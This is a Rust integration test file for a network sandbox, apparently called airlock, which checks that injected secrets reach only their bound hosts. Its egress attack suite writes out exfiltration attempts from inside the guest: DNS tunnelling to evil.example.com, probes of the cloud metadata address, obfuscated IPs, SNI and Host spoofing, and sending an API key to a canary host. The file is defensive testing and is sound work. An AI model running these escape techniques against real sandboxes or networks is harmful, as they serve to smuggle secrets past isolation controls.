//! The sealed network, end to end: real guests (Debian image: curl, python3, node, git) talk
//! to real servers on the host (tests/net/server.js under node, with their own test CA,
//! reached under test names through `--add-host`). The servers record every request and byte
//! they receive (the canary), so the tests can prove what arrived and what did not.

mod util;
use util::{rootfs, text};

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};

mod debian;

fn sha_hex(s: &str) -> String {
    hex::encode(Sha256::digest(s.as_bytes()))
}

fn sh(cmd: &str, dir: &Path) {
    let out = Command::new("sh")
        .arg("-ec")
        .arg(cmd)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{cmd}: {}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
}

/// The host side: test CA, servers, a git repository, and the secret values.
struct World {
    dir: tempfile::TempDir,
    node: Child,
    ports: HashMap<String, u16>,
    /// Real value of API_KEY (bound to api.test and ws.test).
    api_key: String,
    /// Real value of OTHER_KEY (bound to other.test).
    other_key: String,
}

const NAMES: &[&str] = &[
    "api.test",
    "other.test",
    "pass.test",
    "ws.test",
    "canary.test",
];

impl World {
    fn start() -> World {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path();
        let sans: Vec<String> = NAMES.iter().map(|n| format!("DNS:{n}")).collect();
        std::fs::write(
            d.join("ext.cnf"),
            format!(
                "subjectAltName={}\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n",
                sans.join(",")
            ),
        )
        .unwrap();
        sh(
            "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes \
               -keyout ca.key -out ca.crt -days 2 -subj /CN=airlock-test-upstream-ca 2>/dev/null
             openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes \
               -keyout server.key -out server.csr -subj /CN=api.test 2>/dev/null
             openssl x509 -req -in server.csr -CA ca.crt -CAkey ca.key -CAcreateserial \
               -out server.crt -days 2 -extfile ext.cnf 2>/dev/null
             mkdir -p git work && git init -q --bare git/repo.git
             cd work && git init -q && echo 'hello from the repo' > README \
               && git add README && git -c user.name=t -c user.email=t@t commit -qm init \
               && git push -q ../git/repo.git HEAD:refs/heads/main
             cd ../git/repo.git && git symbolic-ref HEAD refs/heads/main && git update-server-info",
            d,
        );
        let rand = |n: &str| {
            let mut b = [0u8; 16];
            std::fs::File::open("/dev/urandom")
                .and_then(|mut f| std::io::Read::read_exact(&mut f, &mut b))
                .unwrap();
            format!("{n}-{}", hex::encode(b))
        };
        let api_key = rand("sk-real-api");
        let other_key = rand("sk-real-other");
        let node = Command::new("node")
            .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/net/server.js"))
            .arg(d)
            .env("REAL_TOKEN", &api_key)
            .stdin(Stdio::null())
            .spawn()
            .expect("node (tests need Node.js on the host)");
        let ready = d.join("ready.json");
        let t0 = Instant::now();
        while !ready.exists() {
            assert!(
                t0.elapsed() < Duration::from_secs(20),
                "test servers did not start"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        let ports: HashMap<String, u16> =
            serde_json::from_str(&std::fs::read_to_string(ready).unwrap()).unwrap();
        World {
            dir,
            node,
            ports,
            api_key,
            other_key,
        }
    }

    fn port(&self, name: &str) -> u16 {
        self.ports[name]
    }

    fn path(&self, f: &str) -> PathBuf {
        self.dir.path().join(f)
    }

    fn canary(&self) -> Vec<serde_json::Value> {
        std::fs::read_to_string(self.path("canary.jsonl"))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    /// `airlock run` on the Debian image with every test name pinned to the host's loopback,
    /// the test CA trusted upstream, an audit log, and `extra` flags; runs `script` in bash
    /// with the server ports in the environment.
    fn run(&self, extra: &[&str], script: &str) -> Output {
        debian::ensure_image();
        let rt = tempfile::tempdir().unwrap();
        let mut c = Command::new(env!("CARGO_BIN_EXE_airlock"));
        c.args(["run", "--image", "demo/debian:bookworm"]);
        for n in NAMES {
            c.arg("--add-host").arg(format!("{n}:127.0.0.1"));
        }
        c.arg("--upstream-ca").arg(self.path("ca.crt"));
        c.arg("--audit").arg(self.path("audit.jsonl"));
        c.args(extra);
        for (k, v) in &self.ports {
            c.arg("-e").arg(format!("{}_PORT={v}", k.to_uppercase()));
        }
        let ca = std::fs::read_to_string(self.path("ca.crt")).unwrap();
        c.arg("-e").arg(format!("UPSTREAM_CA={ca}"));
        c.args(["--", "bash", "-c", script]);
        c.env("AIRLOCK_RUNTIME_DIR", rt.path())
            .env("API_KEY", &self.api_key)
            .env("OTHER_KEY", &self.other_key)
            .stdin(Stdio::null());
        c.output().unwrap()
    }

    fn audit(&self) -> String {
        std::fs::read_to_string(self.path("audit.jsonl")).unwrap_or_default()
    }

    /// No secret value in anything the guest produced, the audit log, or the canary records
    /// of hosts the secret does not belong to.
    fn assert_no_leak(&self, out: &Output) {
        for (v, own) in [
            (&self.api_key, &["api.test", "ws.test"][..]),
            (&self.other_key, &["other.test"][..]),
        ] {
            assert!(
                !text(&out.stdout).contains(v.as_str()),
                "secret in guest stdout"
            );
            assert!(
                !text(&out.stderr).contains(v.as_str()),
                "secret in guest stderr"
            );
            assert!(
                !self.audit().contains(v.as_str()),
                "secret in the audit log"
            );
            for rec in self.canary() {
                let host = rec["headers"]["host"]
                    .as_str()
                    .or(rec["headers"][":authority"].as_str())
                    .or(rec["sni"].as_str())
                    .unwrap_or("")
                    .split(':')
                    .next()
                    .unwrap()
                    .to_string();
                if rec.to_string().contains(v.as_str()) {
                    assert!(own.contains(&host.as_str()), "secret reached {host}: {rec}");
                }
            }
        }
    }
}

impl Drop for World {
    fn drop(&mut self) {
        let _ = self.node.kill();
        let _ = self.node.wait();
    }
}

fn lines(out: &Output) -> Vec<String> {
    text(&out.stdout).lines().map(str::to_string).collect()
}

#[test]
fn secrets_reach_only_their_hosts_with_real_clients() {
    let w = World::start();
    let out = w.run(
        &[
            "--allow-host",
            "api.test",
            "--allow-host",
            "other.test",
            "--allow-host",
            "canary.test",
            "--secret",
            "API_KEY@api.test,ws.test",
            "--secret",
            "OTHER_KEY@other.test",
        ],
        r#"
        set -u
        h=$HTTPS_PORT
        echo "placeholder:$API_KEY"
        # curl, header and query
        curl -sS --fail "https://api.test:$h/v1/models?key=$API_KEY" -H "Authorization: Bearer $API_KEY"
        # python urllib
        python3 -c 'import os, urllib.request as u
r = u.Request("https://api.test:%s/py" % os.environ["HTTPS_PORT"], headers={"Authorization": "Bearer " + os.environ["API_KEY"]})
print(u.urlopen(r).read().decode().strip())'
        # node https
        node -e 'require("https").get({host: "api.test", port: process.env.HTTPS_PORT, path: "/node", headers: {authorization: "Bearer " + process.env.API_KEY}}, r => { let b = ""; r.on("data", d => b += d); r.on("end", () => console.log(b.trim())) }).on("error", e => console.log("node error " + e.message))'
        # git over the MITM, the token only in a header
        git -c http.extraHeader="Authorization: Bearer $API_KEY" clone -q "https://api.test:$h/git/repo.git" /tmp/r && echo "git:$(cat /tmp/r/README)"
        # the wrong host: header, query, cookie, plain HTTP
        curl -s -o /dev/null -w 'wrong-header:%{http_code}\n' "https://other.test:$h/x" -H "Authorization: Bearer $API_KEY"
        curl -s -o /dev/null -w 'wrong-query:%{http_code}\n' "https://other.test:$h/x?k=$API_KEY"
        curl -s -o /dev/null -w 'wrong-cookie:%{http_code}\n' "https://other.test:$h/x" -H "Cookie: s=$API_KEY"
        curl -s -o /dev/null -w 'wrong-plain:%{http_code}\n' "http://canary.test:$HTTP_PORT/x" -H "X-Key: $API_KEY"
        # the right secret for other.test
        curl -sS --fail "https://other.test:$h/ok" -H "Authorization: Bearer $OTHER_KEY"
        # the guest's whole environment holds placeholders only
        cat /proc/1/environ /proc/self/environ | tr '\0' '\n' | grep -c KEY= >/dev/null; echo env-ok
        "#,
    );
    let l = lines(&out);
    let err = text(&out.stderr);
    assert!(out.status.success(), "{l:?}\n{err}");
    let ph = l[0].strip_prefix("placeholder:").unwrap();
    assert!(!ph.is_empty() && ph != w.api_key, "{ph}");
    let want = sha_hex(&format!("Bearer {}", w.api_key));
    let seen: Vec<&String> = l.iter().filter(|x| x.contains(&want)).collect();
    assert_eq!(
        seen.len(),
        3,
        "curl, python and node each authenticated: {l:?}\n{err}"
    );
    assert!(
        l.contains(&"git:hello from the repo".to_string()),
        "{l:?}\n{err}"
    );
    for k in ["wrong-header", "wrong-query", "wrong-cookie", "wrong-plain"] {
        assert!(l.contains(&format!("{k}:403")), "{k}: {l:?}");
    }
    assert!(
        l.iter()
            .any(|x| x.contains(&sha_hex(&format!("Bearer {}", w.other_key)))),
        "{l:?}"
    );
    // The server saw the real value in the query as well.
    assert!(w
        .canary()
        .iter()
        .any(|r| r["path"].as_str() == Some(&format!("/v1/models?key={}", w.api_key))));
    w.assert_no_leak(&out);
    let audit = w.audit();
    assert!(
        audit.contains(r#""type":"substitution","secret":"API_KEY""#),
        "{audit}"
    );
    assert!(audit.contains(r#""status":403"#), "{audit}");
}

/// A placeholder over plain HTTP, even to the secret's own host, would put the value on the
/// network in the clear: refused with a 403 naming `--secret-allow-http`, unless that flag
/// is given (issue 18.6). HTTPS to the same host is substituted either way.
#[test]
fn secret_over_plain_http_only_with_secret_allow_http() {
    let w = World::start();
    let script = r#"
        curl -s -w '\nplain:%{http_code}\n' "http://api.test:$HTTP_PORT/plain-$1" -H "Authorization: Bearer $API_KEY"
        curl -sS --fail "https://api.test:$HTTPS_PORT/tls-$1" -H "Authorization: Bearer $API_KEY"
        "#;
    let want = sha_hex(&format!("Bearer {}", w.api_key));
    let base = ["--allow-host", "api.test", "--secret", "API_KEY@api.test"];
    // Without the flag.
    let out = w.run(&base, &script.replace("$1", "refused"));
    let l = lines(&out);
    assert!(out.status.success(), "{l:?}\n{}", text(&out.stderr));
    assert!(l.contains(&"plain:403".to_string()), "{l:?}");
    assert!(
        l.iter()
            .any(|x| x.contains("plain HTTP") && x.contains("--secret-allow-http API_KEY")),
        "the refusal names the flag: {l:?}"
    );
    assert!(
        l.iter().any(|x| x.contains(&want)),
        "HTTPS still substituted: {l:?}"
    );
    let canary = w.canary();
    assert!(
        !canary.iter().any(|r| r["path"] == "/plain-refused"),
        "a refused request reached the server: {canary:?}"
    );
    // With it.
    let mut args = base.to_vec();
    args.extend(["--secret-allow-http", "API_KEY"]);
    let out = w.run(&args, &script.replace("$1", "allowed"));
    let l = lines(&out);
    assert!(
        l.contains(&"plain:200".to_string()),
        "{l:?}\n{}",
        text(&out.stderr)
    );
    assert_eq!(l.iter().filter(|x| x.contains(&want)).count(), 2, "{l:?}");
    assert!(w
        .canary()
        .iter()
        .any(|r| r["server"] == "http" && r["path"] == "/plain-allowed"));
    w.assert_no_leak(&out);
}

#[test]
fn http2_websocket_and_passthrough() {
    let w = World::start();
    let out = w.run(
        &[
            "--allow-host",
            "api.test",
            "--allow-host",
            "ws.test",
            "--allow-host",
            "pass.test",
            "--secret",
            "API_KEY@api.test,ws.test",
        ],
        r#"
        set -u
        curl -sS --http2 --fail "https://api.test:$HTTPS_PORT/h2" -H "Authorization: Bearer $API_KEY"
        python3 - <<'EOF'
import asyncio, os, websockets
async def main():
    url = "wss://ws.test:%s/chat" % os.environ["WSS_PORT"]
    async with websockets.connect(url, extra_headers={"Authorization": "Bearer " + os.environ["API_KEY"]}) as ws:
        await ws.send("ping")
        print("ws:" + await ws.recv())
asyncio.run(main())
EOF
        # Passthrough: the server's own certificate, not the sandbox CA's.
        printf '%s\n' "$UPSTREAM_CA" > /tmp/upstream.pem
        curl -sS --fail --cacert /tmp/upstream.pem "https://pass.test:$HTTPS_PORT/pass" >/dev/null && echo pass-own-ca:ok
        curl -s --cacert /etc/ssl/airlock/ca.pem "https://pass.test:$HTTPS_PORT/pass" >/dev/null || echo pass-sandbox-ca:refused
        curl -s --cacert /tmp/upstream.pem "https://api.test:$HTTPS_PORT/m" >/dev/null || echo mitm-upstream-ca:refused
        "#,
    );
    let l = lines(&out);
    let err = text(&out.stderr);
    assert!(out.status.success(), "{l:?}\n{err}");
    let h2: serde_json::Value = serde_json::from_str(&l[0]).unwrap();
    assert_eq!(h2["version"], "2.0", "{l:?}");
    assert_eq!(h2["auth_sha256"], sha_hex(&format!("Bearer {}", w.api_key)));
    assert!(l.contains(&"ws:echo:ping".to_string()), "{l:?}\n{err}");
    for k in [
        "pass-own-ca:ok",
        "pass-sandbox-ca:refused",
        "mitm-upstream-ca:refused",
    ] {
        assert!(l.contains(&k.to_string()), "{k}: {l:?}\n{err}");
    }
    let ws = w
        .canary()
        .into_iter()
        .find(|r| r["server"] == "ws")
        .expect("websocket reached the server");
    assert_eq!(
        ws["headers"]["authorization"].as_str().unwrap(),
        format!("Bearer {}", w.api_key)
    );
    w.assert_no_leak(&out);
}

/// From inside the guest, every way out that is not allowed. Each case prints
/// `NAME blocked` or `NAME LEAK`; the canary must receive nothing at all.
#[test]
fn egress_attack_suite() {
    let w = World::start();
    let host_ip = host_address();
    let out = w.run(
        &[
            "--allow-host",
            "api.test",
            "--allow-host",
            &format!("pass.test:{}", w.port("https")),
            "--allow-host",
            "localhost",
            "--secret",
            "API_KEY@api.test",
            "-e",
            &format!("HOST_IP={host_ip}"),
        ],
        ATTACKS,
    );
    let l = lines(&out);
    let err = text(&out.stderr);
    let blocked = l.iter().filter(|x| x.ends_with(" blocked")).count();
    let leaks: Vec<&String> = l.iter().filter(|x| x.contains(" LEAK")).collect();
    assert!(leaks.is_empty(), "leaks: {leaks:?}\n{l:?}\n{err}");
    assert!(blocked >= 30, "only {blocked} cases ran: {l:?}\n{err}");
    let canary = w.canary();
    assert!(canary.is_empty(), "the canary received: {canary:?}");
    w.assert_no_leak(&out);
    let audit = w.audit();
    assert!(audit.contains(r#""allowed":false"#), "{audit}");
}

/// An address of this host other than loopback (the guest must not reach it).
fn host_address() -> String {
    let out = Command::new("hostname").arg("-I").output().unwrap();
    text(&out.stdout)
        .split_whitespace()
        .find(|a| a.parse::<std::net::Ipv4Addr>().is_ok())
        .unwrap_or("192.0.2.1")
        .to_string()
}

const ATTACKS: &str = r#"
python3 - <<'EOF'
import os, socket, ssl, struct, random, subprocess
H = os.environ["HOST_IP"]; RAW = int(os.environ["RAW_PORT"]); UDP = int(os.environ["UDP_PORT"])
HTTPS = int(os.environ["HTTPS_PORT"]); HTTP = int(os.environ["HTTP_PORT"]); KEY = os.environ.get("API_KEY", "no-placeholder")

def report(name, ok):
    print(name, "blocked" if ok else "LEAK", flush=True)

def dns(name, qtype=1, server="10.0.2.2", tcp=False):
    q = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", qtype, 1)
    if tcp:
        s = socket.create_connection((server, 53), timeout=3)
        s.sendall(struct.pack(">H", len(q)) + q); r = s.recv(4096)[2:]
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
        s.sendto(q, (server, 53)); r = s.recv(4096)
    return r[3] & 0x0f, struct.unpack(">H", r[6:8])[0]   # rcode, answer count

def dns_addr(name):
    # The address Airlock's DNS hands out for name (None if it gives none).
    q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(q, ("10.0.2.2", 53)); r = s.recv(4096)
    return socket.inet_ntoa(r[-4:]) if struct.unpack(">H", r[6:8])[0] else None

def dns_blocked(name, qtype=1, **kw):
    try:
        rcode, n = dns(name, qtype, **kw)
        return rcode == 3 or n == 0
    except Exception:
        return True

def tcp_blocked(host, port, send=b"x"):
    try:
        s = socket.create_connection((host, port), timeout=4)
        s.sendall(send)
        s.settimeout(2)
        return s.recv(10) == b""
    except Exception:
        return True

def udp_blocked(host, port):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
        s.sendto(b"leak", (host, port)); s.recv(10)
        return False
    except Exception:
        return True

def tls(addr_name, sni, port=HTTPS, req=None):
    # Connects to the address of addr_name but sends `sni`; True if no HTTP answer came back.
    try:
        ip = socket.gethostbyname(addr_name)
        ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
        s = ctx.wrap_socket(socket.create_connection((ip, port), timeout=4), server_hostname=sni)
        s.sendall(req or ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % sni).encode())
        data = s.recv(100)
        return not data or b" 403 " in data or b" 421 " in data
    except Exception:
        return True

def http_status(url, headers=()):
    args = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "6", url]
    for h in headers: args += ["-H", h]
    return subprocess.run(args, capture_output=True, text=True).stdout

# DNS
report("dns-unallowed-name", dns_blocked("evil.example.com"))
report("dns-txt-tunnel", dns_blocked("aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ.evil.example.com", 16))
report("dns-long-labels", dns_blocked(".".join(["a" * 63] * 3) + ".evil.com"))
report("dns-allowed-txt-empty", dns_blocked("api.test", 16))
report("dns-allowed-aaaa-empty", dns_blocked("api.test", 28))
report("dns-direct-8.8.8.8", dns_blocked("api.test", server="8.8.8.8"))
report("dns-direct-host", dns_blocked("api.test", server=H))
report("dns-over-tcp", dns_blocked("evil.example.com", tcp=True))
# Raw addresses
report("direct-ip-host", tcp_blocked(H, RAW))
report("gateway-port", tcp_blocked("10.0.2.2", RAW))
report("metadata-ip", tcp_blocked("169.254.169.254", 80))
report("private-10", tcp_blocked("10.0.0.1", RAW))
report("private-192.168", tcp_blocked("192.168.1.1", RAW))
report("private-172.16", tcp_blocked("172.16.0.1", RAW))
report("cgnat", tcp_blocked("100.64.0.1", RAW))
report("public-ip", tcp_blocked("1.1.1.1", 443))
a, b, c, d = map(int, H.split("."))
report("decimal-ip", tcp_blocked(str((a << 24) | (b << 16) | (c << 8) | d), RAW))
report("octal-ip", tcp_blocked("0%o.0%o.0%o.0%o" % (a, b, c, d), RAW))
report("hex-ip", tcp_blocked("0x%02x%02x%02x%02x" % (a, b, c, d), RAW))
report("unassigned-synthetic", tcp_blocked("198.18.200.200", RAW))
# IPv6, UDP, ICMP
try:
    s = socket.create_connection(("2606:4700:4700::1111", 443), timeout=3); report("ipv6-public", False)
except Exception: report("ipv6-public", True)
report("ipv4-mapped-ipv6", tcp_blocked("::ffff:" + H, RAW))
report("udp-host", udp_blocked(H, UDP))
report("udp-public", udp_blocked("1.1.1.1", 443))
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(2)
    s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (H, 0)); s.recv(100); report("icmp-host", False)
except Exception: report("icmp-host", True)
# Names and ports
report("allowed-name-wrong-port", tcp_blocked("pass.test", RAW))
# localhost is allowed by name, but the host resolves it to loopback: refused upstream.
report("rebinding-to-loopback", tcp_blocked(dns_addr("localhost") or "198.18.255.254", RAW))
# TLS and HTTP
report("sni-spoof-passthrough", tls("pass.test", "canary.test"))
report("sni-spoof-mitm", tls("api.test", "canary.test"))
report("sni-missing", tls("api.test", None))
report("host-not-sni", tls("api.test", "api.test", req=b"GET / HTTP/1.1\r\nHost: canary.test\r\nConnection: close\r\n\r\n"))
report("connect-method", tls("api.test", "api.test", req=("CONNECT canary.test:%d HTTP/1.1\r\nHost: canary.test:%d\r\n\r\n" % (HTTPS, HTTPS)).encode()))
report("absolute-uri-other-host", tls("api.test", "api.test", req=("GET https://canary.test:%d/ HTTP/1.1\r\nHost: canary.test\r\nConnection: close\r\n\r\n" % HTTPS).encode()))
# The placeholder towards a host the secret does not belong to (plain HTTP to an
# unallowed name never resolves; to an allowed name without the secret it is refused).
report("placeholder-plain-http", http_status("http://canary.test:%d/?k=%s" % (HTTP, KEY)) in ("000", "403"))
report("placeholder-header-unallowed", http_status("https://canary.test:%d/" % HTTPS, ["Authorization: Bearer " + KEY]) in ("000", "403"))
EOF
"#;

#[test]
fn no_network_means_no_nic() {
    let rt = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_airlock"))
        .args(["run", "--rootfs"])
        .arg(rootfs())
        .args([
            "--no-network",
            "--",
            "sh",
            "-c",
            "ls /sys/class/net | grep -v sit | tr '\\n' ' '",
        ])
        .env("AIRLOCK_RUNTIME_DIR", rt.path())
        .output()
        .unwrap();
    assert_eq!(text(&out.stdout).trim(), "lo", "{}", text(&out.stderr));
}

#[test]
fn sealed_by_default() {
    let rt = tempfile::tempdir().unwrap();
    let audit = rt.path().join("audit.jsonl");
    let out = Command::new(env!("CARGO_BIN_EXE_airlock"))
        .args(["run", "--rootfs"])
        .arg(rootfs())
        .arg("--audit")
        .arg(&audit)
        .args([
            "--",
            "sh",
            "-c",
            "ls /sys/class/net | grep -v sit | tr '\\n' ' '; echo; nslookup example.com 10.0.2.2 >/dev/null 2>&1 || echo nxdomain; \
             ping -c1 -W2 10.0.2.2 >/dev/null && echo gateway-pings; \
             nc -w 3 198.18.0.1 80 </dev/null || echo refused",
        ])
        .env("AIRLOCK_RUNTIME_DIR", rt.path())
        .output()
        .unwrap();
    assert_eq!(
        text(&out.stdout),
        "eth0 lo \nnxdomain\ngateway-pings\nrefused\n",
        "{}",
        text(&out.stderr)
    );
    let log = std::fs::read_to_string(&audit).unwrap();
    assert!(
        log.contains(r#""type":"dns","name":"example.com","qtype":"A","allowed":false"#),
        "{log}"
    );
}

/// A malformed rule, range or secret is refused before anything is pulled or booted, by
/// foreground `run`, `run -d` and RPC `create` alike: the image named here lives on a port
/// nothing listens on, so an attempted pull would fail with a connection error instead.
#[test]
fn bad_network_settings_fail_before_any_pull() {
    use std::io::Write;
    let rt = tempfile::tempdir().unwrap();
    let image = "127.0.0.1:1/none:1";
    let airlock = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_airlock"))
            .args(args)
            .env("AIRLOCK_RUNTIME_DIR", rt.path())
            .env("AIRLOCK_DATA_DIR", rt.path().join("data"))
            .env("TOKEN", "value-1234")
            .output()
            .unwrap()
    };
    for (flags, want) in [
        (
            vec!["--allow-host", "a..b"],
            "'a..b' is not a host name or pattern",
        ),
        (vec!["--allow-host", "h.test:99999"], "is not a port number"),
        (
            vec!["--allow-private", "10.0.0.0/99"],
            "--allow-private: '10.0.0.0/99' is not a CIDR",
        ),
        (
            vec!["--secret", "TOKEN@bad host"],
            "secret TOKEN: 'bad host' is not a host name",
        ),
    ] {
        for detach in [false, true] {
            let mut args = vec!["run"];
            if detach {
                args.push("-d");
            }
            args.extend(["--image", image]);
            args.extend(flags.iter().copied());
            args.extend(["--", "true"]);
            let o = airlock(&args);
            let err = text(&o.stderr);
            assert_eq!(o.status.code(), Some(125), "{args:?}: {err}");
            assert!(err.contains(want), "{args:?}: {err}");
            assert!(
                !err.contains("127.0.0.1:1"),
                "{args:?} tried to pull: {err}"
            );
        }
    }
    let mut child = Command::new(env!("CARGO_BIN_EXE_airlock"))
        .arg("rpc")
        .env("AIRLOCK_RUNTIME_DIR", rt.path())
        .env("AIRLOCK_DATA_DIR", rt.path().join("data"))
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(
            br#"{"jsonrpc":"2.0","id":1,"method":"create","params":{"image":"127.0.0.1:1/none:1","network":{"allowed_hosts":["a..b"]}}}
"#,
        )
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let reply = text(&out.stdout);
    assert!(
        reply.contains("'a..b' is not a host name or pattern"),
        "{reply}"
    );
    assert!(!reply.contains("127.0.0.1:1"), "{reply}");
}
